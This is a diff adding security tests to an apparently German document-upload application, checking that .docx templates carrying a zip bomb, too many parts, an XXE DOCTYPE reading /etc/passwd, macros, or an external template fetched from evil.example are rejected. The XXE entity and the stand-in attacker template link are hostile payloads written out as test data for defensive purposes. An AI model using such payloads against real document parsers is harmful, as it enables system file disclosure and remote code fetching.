@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import html
 import io
+import zipfile
 import os
 import re
 import shutil
@@ -465,4 +466,48 @@ def test_a_template_that_never_finishes_is_stopped(app, admin_http, monkeypatch)
     response = upload(admin_http, *example(), antrag=loops, checkliste=generic_templates()["checkliste"])
     assert response.status_code == 422
     assert "dauerte länger als 2 Sekunden und wurde abgebrochen" in text(response)
+    assert snapshot(app) == before
+
+
+# --- shared/security-checklist.md rows 5-9: what a .docx may carry ------------------------------------------------
+
+def rezipped(extra: dict[str, bytes] | None = None, change=None) -> bytes:
+    """The generic Antrag with parts added, or with ``change(name, data)`` applied to each part."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(GENERIC / "antrag.docx") as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            data = source.read(info)
+            target.writestr(info.filename, change(info.filename, data) if change else data)
+        for name, data in (extra or {}).items():
+            target.writestr(name, data)
+    return out.getvalue()
+
+
+def _with_doctype(name: str, data: bytes) -> bytes:
+    if name != "word/document.xml":
+        return data
+    return data.replace(b"?>", b'?><!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1)
+
+
+def _with_external_template(name: str, data: bytes) -> bytes:
+    if name != "word/_rels/document.xml.rels":
+        return data
+    link = (b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+            b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')
+    return data.replace(b"</Relationships>", link)
+
+
+@pytest.mark.parametrize("row, docx, message", [
+    ("5 zip bomb", rezipped({"word/media/big.bin.txt": b"0" * 25_000_000}), "entpackt zu mehr als 20 MB"),
+    ("5 many members", rezipped({f"customXml/extra{i}.xml": b"<a/>" for i in range(600)}), "zu viele Teile"),
+    ("6 DOCTYPE", rezipped(change=_with_doctype), "DOCTYPE"),
+    ("7 macros", rezipped({"word/vbaProject.bin": b"\x00macro"}), "Makros"),
+    ("8 external template", rezipped(change=_with_external_template), "externe Dateien"),
+])
+def test_templates_that_could_act_outside_the_letter_are_refused(app, admin_http, row, docx, message):
+    before = snapshot(app)
+    response = upload(admin_http, *example(), antrag=docx, checkliste=generic_templates()["checkliste"])
+    assert response.status_code == 422, row
+    assert message in problems_of(response)
+    assert "root:" not in text(response)  # row 6: the file's contents never appear
     assert snapshot(app) == before
